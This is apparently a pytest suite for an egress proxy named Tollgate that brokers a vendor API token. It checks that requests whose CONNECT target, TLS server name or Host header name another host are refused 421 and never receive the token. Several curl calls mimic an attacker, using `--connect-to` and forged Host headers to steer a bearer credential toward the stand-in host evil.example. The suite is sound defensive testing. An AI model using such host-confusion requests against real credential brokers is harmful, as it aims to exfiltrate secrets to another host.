"""A brokered credential goes only where the CONNECT target, the TLS server name and the Host header
all name its host. With curl through mitmdump (HTTPS_PROXY, Tollgate's CA), as an attacker sends it
(`--connect-to`, a Host header of its own): a request in a tunnel to the credential's host whose
TLS server name or Host header names another host is refused 421 `misdirected`, reaches no server,
and its connection's record says so; elsewhere the placeholder stays refused 403. The fake server stands at
the address of both names (a co-tenant's site on the vendor's front end) and records what reaches it."""

from __future__ import annotations

import json
import os
import subprocess
import time
from datetime import datetime
from pathlib import Path

import pytest
from tests.support.fake_upstream import FakeUpstream, Reply

RESOLVE = Path(__file__).resolve().parents[1] / "support" / "resolve.py"
VENDOR = "api.vendor.example"
EVIL = "evil.example"
PLACEHOLDER = "vnd_placeholder_the_agent_holds_0001"
TOKEN = "vnd_the_real_token_only_Tollgate_has_01"
AUTHORIZATION = f"Authorization: Bearer {PLACEHOLDER}"


@pytest.fixture(scope="module")
def vendor(upstream_ca):
    fake = FakeUpstream(upstream_ca, lambda r: Reply(200, {"login": "octocat"}), names=(VENDOR, EVIL))
    yield fake
    fake.close()


@pytest.fixture(scope="module")
def gw(start_gateway, vendor, tmp_path_factory):

    def config(urls: dict[str, str]) -> dict:
        return {
            "providers": {"openai": {"upstream": urls["openai"], "keys": ["sk-real-openai-brokered-misdirected"]}},
            "egress": {
                "default": "deny",
                "allow": [EVIL],  # a tunnel there is let through, unread unless it names the vendor
                "credentials": [
                    {"host": VENDOR, "header": "Authorization", "virtual": PLACEHOLDER, "value": "${VENDOR_TOKEN}"}
                ],
            },
        }

    env = {"VENDOR_TOKEN": TOKEN, "TOLLGATE_TEST_RESOLVE": json.dumps({VENDOR: vendor.port, EVIL: vendor.port})}
    gateway = start_gateway(
        config, "-s", str(RESOLVE), env=env, providers=("openai",), save_flows=True,
    )  # fmt: skip
    return gateway


def curl(gw, url: str, *args: str, http: str = "--http1.1") -> tuple[int, dict[str, str], bytes]:
    """curl through the proxy (HTTPS_PROXY) trusting its CA: the status, the headers (lower-case
    names) and the body."""
    env = {k: v for k, v in os.environ.items() if k.lower() not in ("no_proxy", "https_proxy", "http_proxy")}
    env["HTTPS_PROXY"] = gw.proxy.proxy_url
    done = subprocess.run(
        ["curl", "-sS", "-i", http, "--max-time", "20", "--cacert", str(gw.bundle), *args, url],
        env=env, capture_output=True, timeout=30, check=True,
    )  # fmt: skip
    head, _, body = done.stdout.partition(b"\r\n\r\n")
    if head.startswith(b"HTTP/1.1 200 Connection established"):  # curl shows the CONNECT's answer too
        head, _, body = body.partition(b"\r\n\r\n")
    status_line, *lines = head.decode().split("\r\n")
    headers = {name.lower(): value.strip() for name, _, value in (line.partition(":") for line in lines)}
    return int(status_line.split()[1]), headers, body


def vendors_connection(gw, began: float) -> dict:
    """The record of the vendor's connection a curl run made after `began` (written when it closed,
    so a connection of the test before may be recorded after this one began: its `ts`, when it
    opened, tells them apart; a tunnel to another host decrypted for the vendor's name has one of
    its own besides)."""
    deadline = time.monotonic() + 10
    while True:
        records = [r for r in gw.connections() if r["host"] == VENDOR and opened(r) >= began]
        if records or time.monotonic() > deadline:
            break
        time.sleep(0.05)
    assert len(records) == 1, records
    return records[0]


def opened(record: dict) -> float:
    """When a connection opened, to the millisecond its record keeps (rounded up: never before it did)."""
    return datetime.fromisoformat(record["ts"].replace("Z", "+00:00")).timestamp() + 0.001


def written_down(gw) -> str:
    return gw.audit_path.read_text() + gw.proxy.console() + gw.saved.read_bytes().decode("latin-1")


def test_the_token_goes_to_its_host_named_one_way(gw, vendor):
    """The control: a request naming the vendor throughout has its token put in."""
    vendor.received.clear()
    status, _, body = curl(gw, f"https://{VENDOR}/user", "-H", AUTHORIZATION)
    assert (status, json.loads(body)) == (200, {"login": "octocat"})
    assert [(r.sni, r.headers["host"], r.headers["authorization"]) for r in vendor.received] == [
        (VENDOR, VENDOR, f"Bearer {TOKEN}")
    ]


# (what curl is told, the hosts the refusal names): the URL's host is the TLS server name and the
# Host header unless a header of its own says otherwise; `--connect-to` sets the CONNECT's target.
MISDIRECTED = {
    "another server name and Host": (
        [f"https://{EVIL}/user", "--connect-to", f"{EVIL}:443:{VENDOR}:443"],
        f"connection to {VENDOR}, TLS server name {EVIL}, Host {EVIL}",
    ),
    "another Host": (
        [f"https://{VENDOR}/user", "-H", f"Host: {EVIL}"],
        f"connection to {VENDOR}, TLS server name {VENDOR}, Host {EVIL}",
    ),
    "another server name": (
        [f"https://{EVIL}/user", "--connect-to", f"{EVIL}:443:{VENDOR}:443", "-H", f"Host: {VENDOR}"],
        f"connection to {VENDOR}, TLS server name {EVIL}, Host {VENDOR}",
    ),
}


@pytest.mark.parametrize("http", ["--http1.1", "--http2"])
@pytest.mark.parametrize("case", list(MISDIRECTED))
def test_a_request_naming_another_host_is_refused_421_and_reaches_nothing(gw, vendor, case, http):
    args, named = MISDIRECTED[case]
    vendor.received.clear()
    began = time.time()
    status, headers, body = curl(gw, *args, "-H", AUTHORIZATION, http=http)
    assert (status, headers["x-tollgate-error"]) == (421, "misdirected"), body
    assert json.loads(body)["error"] == {
        "type": "misdirected",
        "message": f"Tollgate refused this request: it names more than one host ({named}). "
        f"Call {VENDOR} by its name, through the proxy.",
    }
    assert vendor.received == []
    record = vendors_connection(gw, began)
    assert (record["host"], record["brokered"], record["refused"], record["error"]) == (
        VENDOR,
        0,
        1,
        f"misdirected: {named}",
    )
    written = written_down(gw)
    assert TOKEN not in written and PLACEHOLDER not in written


def test_without_a_placeholder_too(gw, vendor):
    """Refused whatever the request holds: the server would take the caller's own credential for
    the vendor's host's as well."""
    vendor.received.clear()
    status, headers, _ = curl(gw, f"https://{EVIL}/user", "--connect-to", f"{EVIL}:443:{VENDOR}:443")
    assert (status, headers["x-tollgate-error"]) == (421, "misdirected")
    assert vendor.received == []


def test_elsewhere_the_placeholder_stays_refused_403(gw, vendor, upstream_ca_pem):
    """A tunnel to another host, named so throughout: not decrypted (curl sees the server's own
    certificate), the placeholder goes there as it is, and never the token; a cleartext request to
    the vendor is refused as before."""
    vendor.received.clear()
    status, _, _ = curl(gw, f"https://{EVIL}/user", "-H", AUTHORIZATION, "--cacert", str(upstream_ca_pem))
    assert status == 200
    assert [(r.sni, r.headers["authorization"]) for r in vendor.received] == [(EVIL, f"Bearer {PLACEHOLDER}")]
    vendor.received.clear()
    status, headers, _ = curl(gw, f"http://{VENDOR}/user", "-H", AUTHORIZATION, "--proxy", gw.proxy.proxy_url)
    assert (status, headers["x-tollgate-error"]) == (403, "content_denied")
    assert vendor.received == []


@pytest.mark.parametrize("http", ["--http1.1", "--http2"])
def test_in_a_tunnel_to_another_host_named_for_the_vendor_the_placeholder_stays_refused_403(gw, vendor, http):
    """A tunnel to another host whose TLS server name is the vendor's, decrypted for that name: no
    token goes in there, and the placeholder is refused as anywhere else it does not belong."""
    vendor.received.clear()
    args = (f"https://{VENDOR}/user", "--connect-to", f"{VENDOR}:443:{EVIL}:443", "-H", AUTHORIZATION)
    status, headers, _ = curl(gw, *args, http=http)
    assert (status, headers["x-tollgate-error"]) == (403, "content_denied")
    assert vendor.received == []
